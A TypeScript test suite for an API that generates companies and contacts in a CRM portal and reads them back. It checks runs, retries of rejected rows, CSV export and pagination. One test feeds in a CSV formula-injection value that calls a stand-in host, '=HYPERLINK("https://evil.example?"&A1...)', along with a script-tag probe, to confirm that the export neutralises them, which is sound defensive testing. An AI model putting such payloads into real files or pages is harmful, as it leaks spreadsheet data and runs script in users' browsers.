// The API as a program uses it: rejected rows and trying them again, whole tables page by page, uneven counts.
// Must stay true: what the API says is compared with what the portal holds.
import { beforeAll, describe, expect, test } from 'vitest'
import type { RecordItems, RecordsPage } from '../../server/core/records.ts'
import type { RunSnapshot } from '../../server/core/run/run.ts'
import { readEvents } from '../support/event-source.ts'
import { buildPage, openSite, type Site } from '../support/site.ts'

beforeAll(buildPage)

const getJson = async <T>(url: string): Promise<T> => (await (await fetch(url)).json()) as T
const post = (url: string, body?: object, headers: Record<string, string> = {}) =>
  fetch(url, {
    method: 'POST',
    headers: { ...(body === undefined ? {} : { 'content-type': 'application/json' }), ...headers },
    ...(body === undefined ? {} : { body: JSON.stringify(body) })
  })
/** Follows an accepted run to its end. */
const follow = async ({ origin }: Site, accepted: Response): Promise<RunSnapshot> => {
  expect(accepted.status).toBe(202)
  const location = accepted.headers.get('location')
  const events = await readEvents(`${origin}${location}/progress`)
  expect(new Set(events.slice(0, -1).map(({ event }) => event))).toEqual(new Set(['progress']))
  expect(events.at(-1)?.event).toBe('done')
  const final = JSON.parse(events.at(-1)?.data ?? '') as RunSnapshot
  expect(await getJson(`${origin}${location}`)).toEqual(final)
  return final
}
const create = async (site: Site, body: object, headers?: Record<string, string>): Promise<RunSnapshot> =>
  follow(site, await post(`${site.origin}/api/runs`, { kind: 'create', ...body }, headers))

describe('runs', () => {
  test('are listed newest first, and one at a time is started however many ask', async () => {
    const site = await openSite({ portal: { speed: { commandMs: 5 } } })
    const ids: string[] = []
    for (const companies of [1, 2, 3]) ids.unshift((await create(site, { companies })).id)
    const { runs } = await getJson<{ runs: RunSnapshot[] }>(`${site.origin}/api/runs`)
    expect(runs.map(({ id }) => id)).toEqual(ids)
    expect(runs.map(({ total }) => total)).toEqual([6, 4, 2])

    const answers = await Promise.all(
      Array.from({ length: 10 }, () => post(`${site.origin}/api/runs`, { kind: 'create', companies: 40 }))
    )
    const accepted = answers.filter(({ status }) => status === 202)
    expect(accepted).toHaveLength(1)
    for (const answer of answers.filter(({ status }) => status !== 202)) {
      expect(answer.status).toBe(409)
      expect(await answer.json()).toMatchObject({ error: 'BUSY', run: { total: 80 } })
    }
    await Promise.all(accepted.map(answer => follow(site, answer)))
    expect(site.portal.state.counts()).toEqual({ companies: 46, contacts: 46 })
  })

  test('the latest is the active one, or else the one that was started last', async () => {
    const site = await openSite({ portal: { speed: { commandMs: 50, workers: 1 } } })
    const latest = async () => (await getJson<{ run: RunSnapshot | null }>(`${site.origin}/api/runs/latest`)).run
    expect(await latest()).toBeNull()
    const first = await post(`${site.origin}/api/runs`, { kind: 'create', companies: 100 })
    const { id } = (await first.json()) as RunSnapshot
    await post(`${site.origin}/api/runs/${id}/cancel`)
    await follow(site, first)
    const second = await create(site, { companies: 1 })
    expect(await latest()).toEqual(second)

    const resumed = await post(`${site.origin}/api/runs/${id}/resume`)
    expect(await latest()).toMatchObject({ id, status: 'running' })
    site.portal.configure({ speed: { commandMs: 0 } })
    await follow(site, resumed)
    expect(await latest()).toEqual(second)
  })

  test.each([
    [3, 7],
    [5, 2],
    [4, 0]
  ])('with %i companies and %i contacts go round the companies', async (companies, contacts) => {
    const site = await openSite()
    const { id, created } = await create(site, { companies, contacts })
    expect(created).toEqual({ companies, contacts })
    const { state } = site.portal
    const rowOf = (originId: unknown) => Number(String(originId).replace(`${id}:`, ''))
    const companyIds = new Map(state.records('company').map(each => [rowOf(each.values['ORIGIN_ID']), each.id]))
    expect([...companyIds.keys()].sort((a, b) => a - b)).toEqual(Array.from({ length: companies }, (_, i) => i + 1))
    for (const each of [...state.records('company'), ...state.records('contact')]) {
      expect(each.values['ORIGINATOR_ID']).toBe('BITRIXCORP')
    }
    const found = state.records('contact')
    expect(found).toHaveLength(contacts)
    for (const { id: contactId, values } of found) {
      const index = rowOf(values['ORIGIN_ID']) - companies - 1
      expect(state.companyIdsOf(contactId)).toEqual([companyIds.get((index % companies) + 1)])
    }
  })

  test('speak the language that was asked for, else that of the page', async () => {
    const site = await openSite()
    const russian = /^[А-Яё-]+$/iu
    for (const [body, headers, isRussian] of [
      [{}, {}, true],
      [{}, { 'accept-language': 'en' }, false],
      [{ locale: 'ru' }, { 'accept-language': 'en' }, true]
    ] as const) {
      await create(site, { companies: 1, contacts: 4, ...body }, headers)
      const names = site.portal.state.records('contact').map(({ values }) => String(values['LAST_NAME']))
      expect(names.map(name => russian.test(name))).toEqual(Array(4).fill(isRussian))
      await follow(site, await post(`${site.origin}/api/runs`, { kind: 'clear' }))
    }
  })
})

describe('rejected rows', () => {
  const REASON = '=HYPERLINK("https://evil.example?"&A1,"a")\r\n<script>alert(1)</script>, "ещё"'

  test('are all in the table, the first 50 in the snapshot, and only they are tried again', async () => {
    const site = await openSite()
    const { state } = site.portal
    state.refuse = (entity, action, row) =>
      entity === 'contact' && action === 'add' && /[02468]$/.test(String('values' in row ? '' : row['ORIGIN_ID']))
        ? REASON
        : undefined
    const run = await create(site, { companies: 10, contacts: 140 })
    expect(run).toMatchObject({ status: 'completed', total: 150, done: 150, failed: 70, percent: 100 })
    expect(run.created).toEqual({ companies: 10, contacts: 70 })
    expect(run.errors).toHaveLength(50)
    for (const error of run.errors)
      expect(error).toMatchObject({
        entity: 'contact',
        code: 'REJECTED',
        message: expect.stringContaining('HYPERLINK')
      })

    const csv = await fetch(`${site.origin}/api/runs/${run.id}/rejections.csv`)
    const lines = (await csv.text()).replace(/^\uFEFF/, '').split(/\r\n(?="(?:entity|contact|company)")/)
    expect(lines).toHaveLength(71)
    // Never a formula, never a cell that ends before its time.
    for (const line of lines.slice(1)) expect(line).toMatch(/^"contact","\d+","[^"]*","'=HYPERLINK\(""https:/)

    const path = `${site.origin}/api/runs/${run.id}/retry`
    const first = await follow(site, await post(path))
    expect(first.failed).toBe(70)
    state.refuse = undefined
    // Two retries of one run could create its rows twice: the chain goes on at its end.
    expect((await post(path)).status).toBe(409)
    const second = await follow(site, await post(`${site.origin}/api/runs/${first.id}/retry`))
    expect(second).toMatchObject({ status: 'completed', total: 70, failed: 0 })
    expect(state.counts()).toEqual({ companies: 10, contacts: 140 })
    const tags = state.records('contact').map(({ values }) => values['ORIGIN_ID'])
    expect(new Set(tags).size).toBe(140)
    for (const { id } of state.records('contact')) expect(state.companyIdsOf(id)).toHaveLength(1)
  })
})

describe('tables', () => {
  test.each([0, 1, 49, 50, 51, 100, 101])('of %i records are read whole, page by page', async size => {
    const site = await openSite({ portal: { seed: { companies: size, contacts: size } } })
    for (const name of ['companies', 'contacts'] as const) {
      const ids = site.portal.state.records(name === 'companies' ? 'company' : 'contact').map(({ id }) => id)
      for (const limit of [50, 7]) {
        const read: number[] = []
        let after: number | null = 0
        for (let pages = 0; after !== null && pages < 20; pages += 1) {
          const page: RecordsPage<{ id: number }> = await getJson(
            `${site.origin}/api/${name}?limit=${limit}&after=${after}`
          )
          expect(page.total).toBe(size)
          expect(page.items.length).toBeLessThanOrEqual(limit)
          read.push(...page.items.map(({ id }) => id))
          after = page.next
          expect(after === null, `${limit} after ${read.length}`).toBe(read.length === size)
        }
        expect(read, `${name} by ${limit}`).toEqual(ids)
      }
      const beyond = await getJson(`${site.origin}/api/${name}?after=999999999`)
      expect(beyond).toEqual({ items: [], next: null, total: size })
    }
  })

  test('name the first contacts of each company, also where others have many', async () => {
    const few = [0, 1, 3, 4]
    const counts = [60, ...few, ...few, ...few, 20, 20, 2]
    const site = await openSite({
      portal: {
        seed: {
          companies: counts.map((_, index) => ({ id: index + 1 })),
          contacts: counts.flatMap((count, index) => Array.from({ length: count }, () => ({ companyIds: [index + 1] })))
        }
      }
    })
    const { items } = await getJson<RecordsPage<RecordItems['company']>>(`${site.origin}/api/companies`)
    expect(items.map(({ contacts }) => contacts.length)).toEqual(counts.map(count => Math.min(count, 3)))
    expect(items.map(({ more }) => more)).toEqual(counts.map(count => count > 3))
    for (const { id, contacts } of items) {
      const own = site.portal.state
        .records('contact')
        .filter(contact => site.portal.state.companyIdsOf(contact.id)[0] === id)
      expect(contacts.map(contact => contact.id)).toEqual(own.slice(0, 3).map(contact => contact.id))
    }
  })

  test.each([0, 1, 50, 101])('of %i records are read newest first, in two requests a page', async size => {
    const site = await openSite({
      portal: {
        seed: {
          companies: size,
          contacts: Array.from({ length: size }, (_, at) => ({
            fields: { LAST_NAME: `№${at + 1}` },
            companyIds: [at + 1]
          }))
        }
      }
    })
    let requests = 0
    const counting = () => {
      requests += 1
      return false
    }
    site.portal.faults.next('hold', { when: counting })
    for (const name of ['companies', 'contacts'] as const) {
      const ids = site.portal.state.records(name === 'companies' ? 'company' : 'contact').map(({ id }) => id)
      for (const limit of [50, 7]) {
        const read: number[] = []
        let after: number | null = null
        for (let pages = 0; (pages === 0 || after !== null) && pages < 20; pages += 1) {
          requests = 0
          const page: RecordsPage<{ id: number }> = await getJson(
            `${site.origin}/api/${name}?order=newest&limit=${limit}${after === null ? '' : `&after=${after}`}`
          )
          expect(requests).toBe(size === 0 ? 1 : 2)
          expect(page.total).toBe(size)
          expect(page.items.length).toBeLessThanOrEqual(limit)
          read.push(...page.items.map(({ id }) => id))
          after = page.next
        }
        expect(read, `${name} by ${limit}`).toEqual(ids.toReversed())
      }
      const oldest = await getJson(`${site.origin}/api/${name}?order=oldest`)
      expect(oldest).toEqual(await getJson(`${site.origin}/api/${name}`))
    }
  })
})
